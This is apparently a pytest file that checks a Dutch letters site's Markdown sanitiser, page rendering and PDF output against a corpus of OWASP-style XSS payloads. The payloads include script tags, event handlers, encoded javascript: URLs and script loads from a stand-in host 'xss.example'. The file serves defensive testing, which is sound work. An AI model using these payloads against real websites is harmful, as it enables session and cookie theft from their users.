"""Markdown rendering and sanitising: what a member writes can never run in a reader's browser.

The corpus below is our own test data, modelled on the vectors of OWASP's
XSS Filter Evasion Cheat Sheet (script tags, image and body event handlers,
javascript:/vbscript:/data: URLs with encodings, whitespace and case tricks,
malformed and nested tags, SVG/MathML, style and CSS expressions, meta
refresh, iframes, objects, forms, base and link tags, Markdown links and
images, HTML comments and CDATA), each one written through the Markdown
block of a real letter.
"""

import io
import re
from html.parser import HTMLParser

import pytest
from pypdf import PdfReader

from advice.letters.rendering import render_letter_pdf
from advice.markdown import render_markdown
from tests.factories.advice import published_letter

XSS_CORPUS = [
    "<script>alert('kt-1')</script>",
    "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
    "<IMG SRC=\"javascript:alert('kt-3');\">",
    "<IMG SRC=javascript:alert('kt-4')>",
    "<IMG SRC=JaVaScRiPt:alert('kt-5')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'kt-6'\")`>",
    '<a onmouseover="alert(document.cookie)">link met muis</a>',
    '<IMG """><SCRIPT>alert("kt-8")</SCRIPT>"\\>',
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('kt-10')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('kt-15');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('kt-16');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('kt-17');\">",
    "<IMG SRC=\" &#14;  javascript:alert('kt-18');\">",
    '<SCRIPT/XSS SRC="https://xss.example/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("kt-20")>',
    '<<SCRIPT>alert("kt-21");//\\<</SCRIPT>',
    "<SCRIPT SRC=https://xss.example/xss.js?< B >",
    "<IMG SRC=\"`<javascript:alert>`('kt-23')\"",
    "<iframe src=https://xss.example/scriptlet.html <",
    '</TITLE><SCRIPT>alert("kt-25");</SCRIPT>',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'kt-26\');">',
    "<BODY BACKGROUND=\"javascript:alert('kt-27')\">",
    "<IMG DYNSRC=\"javascript:alert('kt-28')\">",
    "<svg/onload=alert('kt-29')>",
    "<svg><script>alert('kt-30')</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('kt-31')></style></mglyph></table></mtext></math>",
    "<STYLE>li {list-style-image: url(\"javascript:alert('kt-32')\");}</STYLE><UL><LI>XSS</br>",
    "<DIV STYLE=\"background-image: url(javascript:alert('kt-33'))\">tekst</DIV>",
    "<DIV STYLE=\"width: expression(alert('kt-34'));\">",
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'kt-35\');">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
    "<IFRAME SRC=\"javascript:alert('kt-37');\"></IFRAME>",
    "<FRAMESET><FRAME SRC=\"javascript:alert('kt-38');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('kt-39')\">",
    '<OBJECT TYPE="text/x-scriptlet" DATA="https://xss.example/scriptlet.html"></OBJECT>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dDovL3d3dy53My5vcmcv" type="image/svg+xml">',
    "<BASE HREF=\"javascript:alert('kt-42');//\">",
    '<LINK REL="stylesheet" HREF="javascript:alert(\'kt-43\');">',
    '<form action="javascript:alert(1)"><button formaction="javascript:alert(2)">verstuur</button></form>',
    "[klik hier](javascript:alert('kt-45'))",
    "[klik hier](JaVaScRiPt:alert('kt-46'))",
    "[klik hier](vbscript:msgbox('kt-47'))",
    "[klik hier](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![plaatje](javascript:alert('kt-49'))",
    "[ref-link][x]\n\n[x]: javascript:alert('kt-50')",
    '[titel](https://example.org "onmouseover=alert(51)")',
    "<a href=\"jav&#x0D;ascript:alert('kt-52')\">link</a>",
    "<!--[if gte IE 4]><SCRIPT>alert('kt-53');</SCRIPT><![endif]-->",
    "<![CDATA[<script>alert('kt-54')</script>]]>",
    "<xss onpointerenter=alert('kt-55') style=display:block>xss</xss>",
    "<details open ontoggle=alert('kt-56')>",
    "<a href=\"javascript&colon;alert('kt-57')\">link</a>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('kt-58')>\">",
]

DANGEROUS_TAGS = {
    "script",
    "style",
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "img",
    "svg",
    "math",
    "meta",
    "link",
    "base",
    "form",
    "input",
    "button",
    "body",
    "table",
    "details",
    "xss",
    "title",
    "noscript",
}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "background", "dynsrc", "data", "content"}
BAD_SCHEMES = re.compile(r"^\s*(javascript|vbscript|data|livescript):", re.IGNORECASE)


class _Audit(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.findings = []

    def handle_starttag(self, tag, attrs):
        if tag in DANGEROUS_TAGS:
            self.findings.append(f"tag <{tag}>")
        for name, value in attrs:
            if name.startswith("on"):
                self.findings.append(f"event handler {name}")
            if name == "style":
                self.findings.append("style attribute")
            cleaned = re.sub(r"[\x00-\x20]", "", value or "")
            if name in URL_ATTRIBUTES and BAD_SCHEMES.match(cleaned):
                self.findings.append(f"{name}={value!r}")

    handle_startendtag = handle_starttag

    def handle_comment(self, data):
        self.findings.append("comment")


def audit(html):
    auditor = _Audit()
    auditor.feed(html)
    auditor.close()
    return auditor.findings


def test_the_corpus_is_large_enough():
    assert len(XSS_CORPUS) >= 30
    assert len(set(XSS_CORPUS)) == len(XSS_CORPUS)


@pytest.mark.parametrize("payload", XSS_CORPUS)
def test_markdown_leaves_nothing_executable(payload):
    html = render_markdown(f"Tekst ervoor.\n\n{payload}\n\nTekst erna.")

    assert audit(html) == []
    assert "Tekst ervoor." in html
    assert "Tekst erna." in html


@pytest.fixture
def xss_letter(db):
    body = [("text", payload) for payload in XSS_CORPUS]
    body.append(("section", {"heading": "Onderdeel", "agenda_item": None, "content": body[:5]}))
    body.append(
        (
            "quotation",
            {"attribution": XSS_CORPUS[6], "quote": XSS_CORPUS[0], "source": "", "source_url": ""},
        )
    )
    body.append(("points", {"points": [{"label": "", "text": p} for p in XSS_CORPUS[:10]]}))
    return published_letter(body=body)


def test_xss_corpus_through_a_published_letter_page(client, xss_letter):
    response = client.get(xss_letter.url)

    assert response.status_code == 200
    letter = response.content.decode()
    letter = letter[letter.index('<article class="letter"') : letter.index("</article>")]
    assert audit(letter) == []
    assert "javascript:" not in letter.lower()


def test_xss_corpus_through_the_pdf(xss_letter):
    pdf = render_letter_pdf(xss_letter)
    stored = xss_letter.versions.get().pdf.read()

    for data in (pdf, stored):
        reader = PdfReader(io.BytesIO(data))
        text = "".join(page.extract_text() for page in reader.pages)
        squeezed = re.sub(r"\s+", "", text).lower()
        assert "javascript:" not in squeezed
        assert "<script" not in squeezed
        assert "onerror" not in squeezed
        assert "klikhier" in squeezed  # … including the words of the neutralised links
        for page in reader.pages:
            for annotation in page.get("/Annots") or []:
                action = annotation.get_object().get("/A") or {}
                uri = str(action.get("/URI", ""))
                assert not BAD_SCHEMES.match(uri), uri
                assert action.get("/S") not in ("/JavaScript", "/Launch")
        assert b"/JavaScript" not in data
        assert b"/JS " not in data


def test_headings_move_below_the_page_title():
    assert render_markdown("# Kop") == "<h2>Kop</h2>"
    assert render_markdown("# Kop", heading_level=3) == "<h3>Kop</h3>"
    assert render_markdown("###### Kop", heading_level=3) == "<h6>Kop</h6>"


def test_safe_markdown_survives():
    html = render_markdown(
        "*cursief* en **vet**, [een link](https://example.org) en <mailto:raad@example.org>\n\n"
        "1. een\n2. twee"
    )

    assert "<em>cursief</em>" in html
    assert "<strong>vet</strong>" in html
    assert 'href="https://example.org"' in html
    assert 'rel="noopener noreferrer nofollow"' in html
    assert "<ol>" in html


def test_stray_tags_lose_their_markup_but_keep_their_words():
    assert render_markdown("<b>vet</b> en <font color=red>rood</font>") == "<p>vet en rood</p>"


def test_a_text_is_rendered_once_per_process_and_a_changed_text_afresh():
    from advice.markdown import _render

    text = "Een **tekst** die alleen deze test rendert."
    before = _render.cache_info()
    first = render_markdown(text)
    again = render_markdown(text)
    changed = render_markdown(text.replace("tekst", "gewijzigde tekst"))
    after = _render.cache_info()

    assert again is first  # kept, not rendered again
    assert after.hits - before.hits == 1
    assert after.misses - before.misses == 2
    assert "<strong>gewijzigde tekst</strong>" in changed
    assert render_markdown(text, heading_level=3) == first  # no heading: same HTML, own key
    assert render_markdown("# Kop", heading_level=2) != render_markdown("# Kop", heading_level=4)
